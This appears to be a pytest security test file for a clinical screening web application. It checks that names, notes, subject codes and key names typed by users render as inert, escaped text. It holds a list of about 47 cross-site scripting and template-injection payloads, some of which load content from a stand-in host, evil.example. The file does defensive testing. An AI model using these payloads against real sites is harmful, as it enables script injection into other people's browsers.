"""Texts that people type, kept and shown again: whatever they hold, a page has the elements of a harmless one."""

from collections.abc import Iterator
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from people import Person, begin, give_key, hire, site_ids
from serving import NOW, Client, settings
from sqlalchemy.engine import URL

from app import actions
from app.main import create_app
from app.settings import secret
from app.store import screenings
from app.store.db import Database
from app.web.render import Pages

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x></script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    'x" autofocus onfocus=alert(1) y="',
    "<!-- --><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "<div hx-get=//evil.example/ hx-trigger=load>",
    "{{7*7}}<%= 7*7 %>${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
HARMLESS = [f"Harmless {number}" for number in range(len(PAYLOADS))]


class Skeleton(HTMLParser):
    """A page's elements with the names of their attributes, and those values that a browser acts on."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[object] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        acted = [value for name, value in attrs if name in ("src", "type", "rel") or name.startswith(("hx-", "on"))]
        names = sorted(name for name, _ in attrs if name not in ("selected",))
        self.found.append((tag, names, acted, [v for n, v in attrs if n in ("href", "action") and ":" in (v or "")]))

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append(decl)


def skeleton(page: str) -> list[object]:
    parser = Skeleton()
    parser.feed(page)
    parser.close()
    return parser.found


class Sites:
    """Two sites that are alike, but for what people typed."""

    def __init__(self, url: URL) -> None:
        given = settings(url)
        self.database = Database(url, secret(given, "audit"))
        self.client = Client(create_app(given, now=lambda: NOW))
        self.hostile, self.harmless, *_ = site_ids(self.database)
        self.pages: dict[int, list[str]] = {}
        self.people: dict[int, Person] = {}
        for site, texts in ((self.hostile, PAYLOADS), (self.harmless, HARMLESS)):
            self._fill(site, texts)

    def _fill(self, site: int, texts: list[str]) -> None:
        who = hire(self.database, f"one-{site}", ("coordinator", site), ("physician", site), at=NOW)
        self.people[site] = who
        with self.database.write() as session:
            for number, text in enumerate(texts):
                actions.create_account(
                    session, login=f"p-{site}-{number}", name=text, grants=[("coordinator", site)], at=NOW, actor="test"
                )
        reference = begin(self.database, who, site, "S-1", NOW)
        for text in texts:
            with self.database.write() as session:
                found = screenings.screening(session, reference=reference, sites=None)
                actions.add_note(session, screening=found, text=text, at=NOW, who=who.principal)
        self.pages[site] = [f"/screenings/{reference}", f"/screenings/{reference}/history", "/screenings"]

    def get(self, site: int, path: str) -> str:
        response = self.client.get(path, headers=self.people[site].headers)
        return response.text if response.status_code == 200 else ""

    def close(self) -> None:
        self.client.close()
        self.database.close()


@pytest.fixture
def sites(loaded_template: Path, tmp_path: Path) -> Iterator[Sites]:
    (tmp_path / "inert.sqlite3").write_bytes(loaded_template.read_bytes())
    sites = Sites(URL.create("sqlite", database=str(tmp_path / "inert.sqlite3")))
    yield sites
    sites.close()


def test_P35_there_are_forty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 40


def test_P35_names_and_notes_are_shown_inert(sites: Sites) -> None:
    shown = 0
    for hostile, harmless in zip(sites.pages[sites.hostile], sites.pages[sites.harmless], strict=True):
        page, other = sites.get(sites.hostile, hostile), sites.get(sites.harmless, harmless)
        assert skeleton(page) == skeleton(other), hostile
        shown += page.count("alert(1)")
        assert "<script>alert" not in page
    assert shown >= len(PAYLOADS), "they are shown"


def test_P35_a_payload_is_no_subject_code(sites: Sites) -> None:
    for payload in PAYLOADS:
        form = {"subject_code": payload}
        answered = sites.client.request("POST", "/screenings", headers=sites.people[sites.hostile].headers, data=form)
        assert answered.status_code == 422
        assert skeleton(answered.text) == skeleton(
            sites.client.request(
                "POST", "/screenings", headers=sites.people[sites.hostile].headers, data={"subject_code": "harmless"}
            ).text
        ), payload


def test_P35_names_of_programs_are_shown_inert(sites: Sites) -> None:
    admin = hire(sites.database, "admin", ("administrator", None), at=NOW)
    for payload in PAYLOADS:
        give_key(sites.database, sites.hostile, at=NOW, until=NOW + timedelta(days=90), token=f"{payload[:40]}.secret")
    for path in ("/keys", "/people"):
        response = sites.client.get(path, headers=admin.headers)
        if response.status_code == 200:
            assert not [one for one in skeleton(response.text) if isinstance(one, tuple) and "onerror" in one[1]]
            assert "<script>alert" not in response.text
            assert "<img src=x" not in response.text


def test_P35_every_template_escapes() -> None:
    environment = Pages(strict=True).environment
    assert environment.autoescape is True
    for name in environment.list_templates():
        assert environment.from_string("{{ x }}").render(x="<") == "&lt;", name
